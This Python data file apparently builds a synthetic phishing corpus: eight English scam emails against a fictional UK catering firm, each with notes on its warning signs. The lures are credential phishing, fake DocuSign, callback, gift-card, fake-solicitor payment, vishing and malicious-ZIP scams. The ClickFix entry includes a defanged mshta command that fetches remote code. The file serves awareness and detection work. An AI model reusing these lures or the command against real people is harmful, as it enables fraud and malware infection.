"""Attack messages, English (09-16)."""
import tpl
from company import BANK, S, TAX
from compose import att_pdf, att_raw, att_zip

GOVUK = dict(name="GOV.UK", color="#0b0c0c", logo="GOV.UK &nbsp;|&nbsp; HM Revenue &amp; Customs")

_sol = BANK["solicitor_fraud"].replace(" ", "")
_sol_sort = "%s-%s-%s" % (_sol[8:10], _sol[10:12], _sol[12:14])
_sol_acc = _sol[14:22]

MESSAGES = [
    dict(
        n=9, lang="en", slug="hmrc-vat-mtd-credential",
        prof=("ses", dict(region="eu-west-1")),
        frm=("HM Revenue & Customs", "noreply@mtd-hmrc-notices.co.uk"),
        to=[S("uk_acc")],
        subject="VAT return for period 07/26 - discrepancy identified (ref. VAT-MTD-2026-448193)",
        when="2026-10-22 11:04:10",
        cs="utf-8", cte="quoted-printable", html="brand", brand=GOVUK,
        text="""# VAT return discrepancy - action required

Dear Example Group UK Ltd,

VAT registration number: %s
Return period: 07/26 (1 May 2026 to 31 July 2026)
Reference: VAT-MTD-2026-448193

Our automated checks have identified a discrepancy between the VAT return submitted through your Making Tax Digital compatible software and third-party information held by HMRC (Box 6 – total value of sales and all other outputs).

To avoid a late submission penalty point and a possible assessment, please review the return and confirm your Government Gateway details within 7 days of the date of this email.

[[Review your VAT return|https://www.tax.service.gov.uk.vat-review-mtd.com/vat-through-software/sign-in?ref=VAT-MTD-2026-448193]]

If you have already corrected this return, you do not need to do anything.

HM Revenue and Customs

~ This is an automated message, please do not reply.
~ HMRC will never ask for your bank details by text message.
""" % TAX["gb_example"],
        what="HMRC 'Making Tax Digital' VAT discrepancy notice leading to a fake Government Gateway sign-in.",
        why="HMRC does not e-mail sign-in links for VAT discrepancies; the link host is vat-review-mtd.com (the 'tax.service.gov.uk' part is only a subdomain label); sender domain mtd-hmrc-notices.co.uk sent through Amazon SES; penalty threat with deadline.",
    ),
    dict(
        n=10, lang="en", slug="docusign-svg-attachment",
        prof=("gmail", dict(host=1)),
        frm=("Ashworth & Pike via DocuSign", "accounts@ashworthpike.co.uk"),
        to=[S("uk_mgr")],
        subject="Please DocuSign: Catering Services Agreement 2026-27 - Northbridge Academy Trust",
        when="2026-10-27 15:20:48",
        cs="utf-8", cte="quoted-printable", html=True,
        text="""Rebecca Hale sent you a document to review and sign.

Catering Services Agreement 2026-27 – Northbridge Academy Trust

Please open the attached secure document (works in any browser and on mobile) to review and sign the agreement. The envelope expires in 48 hours.

Rebecca Hale
r.hale@northbridgeacademies.org.uk

Do Not Share This Email
This email contains a secure link to DocuSign. Please do not share this email, link, or access code with others.

About DocuSign
Sign documents electronically in just minutes. It's safe, secure, and legally binding.
""",
        atts=[att_raw("Northbridge_Catering_Agreement_2026-27.svg", "image/svg+xml",
                      tpl.svg_lure("DocuSign", ["Catering Services Agreement 2026-27",
                                                "Northbridge Academy Trust  -  3 pages",
                                                "Sender: Rebecca Hale",
                                                "Status: Waiting for your signature"],
                                   "REVIEW DOCUMENT",
                                   "https://esign-docs-view.com/envelope/7c2e41b9-0d5a-4c33-9a1e-2f7b8e6d4c10?u=james.whitfield%40example.com",
                                   color="#4c00ff"))],
        what="DocuSign-themed lure from a compromised Google Workspace account of an unrelated accountancy, with an SVG 'document'.",
        why="DocuSign never sends documents as SVG attachments and never from a third party's own mailbox; the SVG's only active element is a link to esign-docs-view.com carrying the victim's address; the real customer (Northbridge) is name-dropped but not the sender.",
    ),
    dict(
        n=11, lang="en", slug="callback-toad-subscription-invoice",
        prof=("gmail", dict(host=4)),
        frm=("Norton Billing Department", "nortonbilling.renewals0471@gmail.com"),
        to=[S("uk_acc")],
        subject="Your subscription has been renewed - Invoice #NS-88421937",
        when="2026-11-10 08:12:33",
        cs="utf-8", cte="quoted-printable",
        text="""Dear Customer,

Thank you for your continued trust in our services.

Your Norton 360 Deluxe Business subscription (5 devices) has been renewed automatically for another 12 months. The amount of £399.99 will be debited from your account within 24 hours.

Invoice number: NS-88421937
Order date: 10/11/2026
Payment method: Auto-debit

Your invoice is attached to this email.

If you did not authorise this renewal or wish to cancel and receive a full refund, please call our billing department within 24 hours on +44 20 7946 0742 (Mon–Sat, 8am–8pm).

Kind regards,
Billing Department
""",
        atts=[att_pdf("Invoice_NS-88421937.pdf", [
            "# INVOICE NS-88421937",
            "Date: 10/11/2026",
            "Product: Norton 360 Deluxe Business - 5 devices - 12 months",
            "Quantity: 1",
            "Amount: GBP 399.99 (incl. VAT)",
            "Payment: Auto-debit",
            "",
            "To cancel this order and receive a refund call +44 20 7946 0742",
            "Cancellation is only possible within 24 hours.",
        ], producer="Google Docs Renderer", when="D:20261110071012Z")],
        what="Callback phishing (TOAD): fake subscription renewal with a phone number to 'cancel'.",
        why="Consumer Gmail sender posing as a software vendor's billing department; no link at all, only a phone number in body and PDF, so the fraud (remote-access install / card theft) happens on the call; 24-hour pressure.",
    ),
    dict(
        n=12, lang="en", slug="ceo-gift-cards-outlook-com",
        prof=("m365", dict(edge=1, region="eurp250", prefix="AS8P250MB0", consumer=True,
                           tenant_domain="outlook.com", lang="en-GB")),
        frm=("Klaus Brenner", "klaus.brenner.office@outlook.com"),
        to=[S("uk_ops")],
        subject="Quick favour",
        when="2026-12-03 13:26:09",
        cs="utf-8", cte="base64", html=True, html_style="plain",
        text="""Hi Emma,

Are you at your desk? I need you to handle something for me discreetly today. I'm in board meetings all afternoon and can't take calls.

We want to thank a few of the site teams who covered the half-term events and I'd like to surprise them with Amazon gift cards before the Christmas dinner. Could you pick up 8 cards of £200 each (£1,600 in total) on your way back from lunch? You'll be reimbursed via expenses, I'll sign it off myself.

Once you have them, scratch off the back and email me clear photos of the codes so I can add them to the cards personally. Please keep this between us for now, it's meant to be a surprise.

Thanks,
Klaus

Sent from Outlook for iOS
""",
        what="Gift-card scam: the 'CEO' asks a UK contract manager to buy Amazon cards and e-mail the codes.",
        why="Personal outlook.com address under the CEO's name; secrecy ('surprise'), unavailable by phone, asks for scratched-off codes by e-mail – the classic gift-card BEC; HR's genuine voucher process (business/12) is the opposite.",
    ),
    dict(
        n=13, lang="en", slug="fake-solicitor-escrow-deposit",
        prof=("vps", dict(helo="mail.pembertonhale-legal.co.uk", rdns="vps-8c41e2a7.vps.ovh.net",
                          ip="51.89.143.27", mailer="thunderbird", zone="Europe/London", lang="en-GB")),
        frm=("Oliver Pemberton", "o.pemberton@pembertonhale-legal.co.uk"),
        to=[S("uk_acc")],
        cc=[("Dr. Klaus Brenner", "klaus.brenner@examplegroup-eu.com")],
        subject="Strictly confidential - Project Larder - exclusivity deposit",
        when="2026-10-16 10:05:37",
        cs="us-ascii", cte="7bit", flowed=True,
        text="""Dear Ms Collins,

I act for Example Group SE in connection with the proposed acquisition of a contract-catering business in the North West (code name "Project Larder"). Dr Brenner has asked me to contact you directly, as the exclusivity deposit is to be funded by the UK entity for tax reasons.

Heads of terms were agreed this morning. Under the exclusivity agreement we are required to hold GBP 94,750.00 in our client account by 3 pm today; otherwise the seller is free to continue talks with a competing bidder.

Client account details:
Account name: Pemberton Hale LLP - Client Account
Bank: Barclays Bank UK PLC
Sort code: %s
Account number: %s
IBAN: %s
BIC: BARCGB22
Reference: PL-2026-0417

The funds remain in our client account and will be credited against the purchase price on completion. As the transaction is subject to a non-disclosure agreement, please do not discuss it with colleagues at this stage. Dr Brenner is copied and will confirm.

Please send me the payment confirmation as soon as the transfer has been released.

Kind regards

Oliver Pemberton
Partner, Corporate
Pemberton Hale LLP
Authorised and regulated by the Solicitors Regulation Authority (SRA No. 812447)
""" % (_sol_sort, _sol_acc, BANK["solicitor_fraud"]),
        what="Fake-lawyer BEC: a 'solicitor' requests an urgent confidential deposit for an acquisition, with the 'CEO' in copy.",
        why="The CEO in Cc is at the look-alike domain examplegroup-eu.com (same actor as attack/01); law-firm domain on an OVH VPS; secrecy (NDA), same-day deadline, payment outside any approval process.",
    ),
    dict(
        n=14, lang="en", slug="clickfix-food-hygiene-report",
        prof=("sendgrid", dict(ptr="o1.ptr4821.food-standards-agency.org.uk", ip="149.72.61.183")),
        frm=("Food Standards Agency", "inspections@food-standards-agency.org.uk"),
        to=[S("uk_ops")],
        subject="Food hygiene rating: inspection report FHRS/2026/118734 - action required",
        when="2026-10-23 09:48:02",
        cs="utf-8", cte="quoted-printable", html="brand",
        brand=dict(name="Food Standards Agency", color="#005ea5", logo="Food Standards Agency"),
        text="""# Food hygiene inspection report

Dear Food Business Operator,

Establishment: Northbridge Primary School – kitchen (operated by Example Group UK Ltd)
Date of inspection: 12 October 2026
Proposed food hygiene rating: 2 – Improvement necessary
Report reference: FHRS/2026/118734

The authorised officer's report, including the list of required improvements, is attached as a secure document. For data protection reasons the report opens in your browser after a short verification step.

You have 21 days from the date of this notice to lodge an appeal or to request a re-rating visit. If no action is taken, the rating will be published on ratings.food.gov.uk.

Yours faithfully,
Food Hygiene Rating Scheme team

~ Food Standards Agency, Foss House, Kings Pool, York
""",
        atts=[att_raw("FHRS_Report_118734.html", "text/html", tpl.clickfix_page(
            "Secure document viewer – verify you are human",
            "To protect confidential inspection data, please confirm that you are not a robot before the report is displayed.",
            ["Press and hold the Windows key &#8862; and press <b>R</b>",
             "In the verification window press <b>Ctrl + V</b>",
             "Press <b>Enter</b> to complete the verification"],
            'mshta hxxps://fsa-report-viewer[.]com/verify/118734.hta  # "I am not a robot - reCAPTCHA verification ID: 4471-2209"'))],
        what="ClickFix: fake food-hygiene inspection report whose HTML attachment tells the user to paste and run a command.",
        why="The FSA does not inspect or e-mail reports (the local authority does, cf. business/14); sent via SendGrid from a look-alike domain; the attachment instructs Win+R, Ctrl+V, Enter to run an mshta command (defanged here) disguised as a CAPTCHA; rating threat targets the trade.",
    ),
    dict(
        n=15, lang="en", slug="teams-helpdesk-vishing-quick-assist",
        prof=("m365", dict(nam=True, lang="en-US", tenant_domain="examplegrpsupport.onmicrosoft.com")),
        frm=("Example Group IT Service Desk", "it.servicedesk@examplegrpsupport.onmicrosoft.com"),
        to=[S("uk_mgr")],
        subject="Spam flood on your mailbox - remediation call in the next 30 minutes",
        when="2026-11-05 09:37:15",
        cs="iso-8859-1", cte="quoted-printable", html=True,
        text="""Hi James,

Since about 8:15 this morning our monitoring has registered an unusually high volume of newsletter and subscription e-mails hitting your mailbox (approx. 2,300 messages so far). This is part of a targeted attack on several UK mailboxes and we are working on it as a priority.

The updated spam filter has to be applied locally on your laptop. Daniel from the Service Desk will call you via Microsoft Teams within the next 30 minutes. Please accept the call and follow his instructions - he will ask you to start Quick Assist (Windows key + Ctrl + Q) and share the 6-digit code with him so he can apply the filter for you.

Please do not restart your laptop in the meantime and do not unsubscribe from any of the newsletters, as this confirms your address to the attackers.

Ticket: INC0048217

Kind regards,
IT Service Desk
Example Group
""",
        what="Help-desk vishing pretext after an e-mail bomb: announces a Teams call from 'IT' who will ask for a Quick Assist session.",
        why="External onmicrosoft.com tenant posing as the internal service desk (internal IT mails come from example.com via mail-int01); remote-access request via Quick Assist is the Black Basta/Storm-1811 playbook; contradicts the IT notice in business/15.",
    ),
    dict(
        n=16, lang="en", slug="remittance-password-zip",
        prof=("roundcube", dict(mta_helo="omta04.ukhostcloud.net", mta_rdns="omta04.ukhostcloud.net",
                                mta_ip="185.119.173.44", host="omta04.ukhostcloud.net",
                                webhost="webmail.ukhostcloud.net", client_ip="102.89.47.118",
                                zone="Europe/London")),
        frm=("Karen Holt", "accounts@moorsidecarehomes.co.uk"),
        to=[S("uk_acc")],
        subject="Remittance advice - payment run 23/10/2026",
        when="2026-10-23 16:02:51",
        cs="us-ascii", cte="7bit",
        text="""Good afternoon,

Please find attached our remittance advice for the payment made to Example Group UK Ltd today (invoices for September meals and the care-home tea rounds).

For data protection reasons the file is password protected.
Password: RA2310

Kind regards

Karen Holt
Accounts Assistant
Moorside Care Homes Ltd
""",
        atts=[att_zip("Remittance_Advice_23102026.zip", ["Remittance_Advice_23102026.pdf.js"],
                      password="RA2310", when=(2026, 10, 23, 15, 58, 2))],
        what="Password-protected ZIP 'remittance advice' from a compromised customer mailbox.",
        why="Webmail session from a foreign mobile IP (X-Originating-IP 102.89.47.118) on the customer's hosting; archive encrypted so the gateway cannot scan it, password in the same mail; inside is a script with a double extension (.pdf.js). Remittances are normally plain PDFs.",
    ),
]
